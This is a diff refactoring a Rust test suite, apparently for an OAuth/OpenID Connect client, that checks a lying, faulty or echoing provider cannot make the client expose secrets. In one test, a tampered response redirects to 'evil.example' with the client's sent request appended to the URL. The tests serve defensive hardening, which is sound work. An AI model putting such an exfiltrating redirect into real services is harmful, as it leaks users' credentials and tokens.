@@ -216,26 +216,40 @@ fn both_courses(kind: Kind, what: &str, say: impl Fn(&World)) {
     late_course(kind, what, &say);
 }
 
-/// Whether nobody asks there any more once the user is logged in.
-fn is_over_by_then(on: On) -> bool {
-    matches!(on, On::Metadata | On::Register | On::Par | On::Authorize | On::DeviceAuthorization)
+/// The courses that get there with what is said at these places: the others would be honest.
+fn courses(kind: Kind, places: &[On], what: &str, say: impl Fn(&World)) {
+    let is_strong = matches!(kind, Kind::Strong { .. });
+    let is_met_early = |on: &On| match on {
+        On::Par | On::DeviceAuthorization => is_strong,
+        // The late course asks for the same and then for more.
+        On::UserInfo | On::Revoke | On::EndSession => false,
+        _ => true,
+    };
+    if places.iter().any(is_met_early) {
+        early_course(kind, what, &say);
+    }
+    if places.iter().any(|on| matches!(on, On::Jwks | On::Token | On::UserInfo | On::Revoke | On::EndSession)) {
+        late_course(kind, what, &say);
+    }
 }
 
-/// The same of a lie.
-fn is_told_by_then(lie: Lie) -> bool {
-    const BEFORE: [&str; 9] = [
-        "Metadata",
-        "Registration",
-        "Callback",
-        "Par",
-        "DeviceCode",
-        "UserCode",
-        "VerificationUri",
-        "Interval",
-        "DeviceExpiresIn",
-    ];
+/// Where a lie is told: at the token endpoint, unless its name says otherwise.
+fn place(lie: Lie) -> On {
     let name = format!("{lie:?}");
-    BEFORE.iter().any(|before| name.starts_with(before))
+    let places = [
+        ("Metadata", On::Metadata),
+        ("Registration", On::Register),
+        ("Callback", On::Authorize),
+        ("Par", On::Par),
+        ("DeviceCode", On::DeviceAuthorization),
+        ("DeviceExpiresIn", On::DeviceAuthorization),
+        ("UserCode", On::DeviceAuthorization),
+        ("VerificationUri", On::DeviceAuthorization),
+        ("Interval", On::DeviceAuthorization),
+        ("Jwks", On::Jwks),
+        ("UserInfo", On::UserInfo),
+    ];
+    places.into_iter().find(|(prefix, _)| name.starts_with(prefix)).map_or(On::Token, |(_, on)| on)
 }
 
 /// What is not on the way at all, and what may be seen of a key.
@@ -307,11 +321,7 @@ fn the_search_finds_what_there_is_to_find() {
 fn no_lie_makes_anything_show_a_secret() {
     for lie in Lie::PLAIN.iter().copied().chain(WITH_ARGUMENTS) {
         for kind in [BASIC, Kind::SecretSigns, STRONG] {
-            let (what, say) = (format!("{lie:?} with {kind:?}"), |world: &World| world.op.lie(lie));
-            early_course(kind, &what, say);
-            if !is_told_by_then(lie) {
-                late_course(kind, &what, say);
-            }
+            courses(kind, &[place(lie)], &format!("{lie:?} with {kind:?}"), |world| world.op.lie(lie));
         }
     }
 }
@@ -321,12 +331,9 @@ fn no_fault_makes_anything_show_a_secret() {
     for fault in FAULTS {
         for on in PLACES {
             for kind in [BASIC, STRONG] {
-                let what = format!("{fault:?} at {on:?} with {kind:?}");
-                let say = |world: &World| world.op.fault(on, fault.clone(), usize::MAX);
-                early_course(kind, &what, say);
-                if !is_over_by_then(on) {
-                    late_course(kind, &what, say);
-                }
+                courses(kind, &[on], &format!("{fault:?} at {on:?} with {kind:?}"), |world| {
+                    world.op.fault(on, fault.clone(), usize::MAX);
+                });
             }
         }
     }
@@ -338,12 +345,10 @@ fn no_two_lies_make_anything_panic() {
     for (n, first) in Lie::PLAIN.iter().enumerate() {
         let second = Lie::PLAIN[(n * 31 + 7) % Lie::PLAIN.len()];
         for kind in [Kind::Method(AuthMethod::None), STRONG_REMOTE] {
-            let what = format!("{first:?} and {second:?} with {kind:?}");
-            let say = |world: &World| [*first, second].into_iter().for_each(|lie| world.op.lie(lie));
-            early_course(kind, &what, say);
-            if !is_told_by_then(*first) || !is_told_by_then(second) {
-                late_course(kind, &what, say);
-            }
+            let lies = [*first, second];
+            courses(kind, &lies.map(place), &format!("{lies:?} with {kind:?}"), |world| {
+                lies.into_iter().for_each(|lie| world.op.lie(lie));
+            });
         }
     }
 }
@@ -378,10 +383,8 @@ fn no_echo_makes_anything_show_a_secret() {
             let kinds =
                 if matches!(on, On::Par | On::DeviceAuthorization) { &[STRONG][..] } else { &[BASIC, POST, STRONG] };
             for kind in kinds {
-                let what = format!("{what} at {on:?} with {kind:?}");
-                let say = |world: &World| {
-                    let last = world.last.clone();
-                    let echo = *echo;
+                courses(*kind, &[on], &format!("{what} at {on:?} with {kind:?}"), |world| {
+                    let (last, echo) = (world.last.clone(), *echo);
                     world.op.tamper(on, move |response| {
                         let sent = last.lock().unwrap().clone();
                         let (status, content_type, body) = echo(&sent);
@@ -392,11 +395,7 @@ fn no_echo_makes_anything_show_a_secret() {
                         let location = HeaderValue::from_str(&format!("https://evil.example/?{sent}")).unwrap();
                         headers.insert(header::LOCATION, location);
                     });
-                };
-                early_course(*kind, &what, say);
-                if !is_over_by_then(on) {
-                    late_course(*kind, &what, say);
-                }
+                });
             }
         }
     }
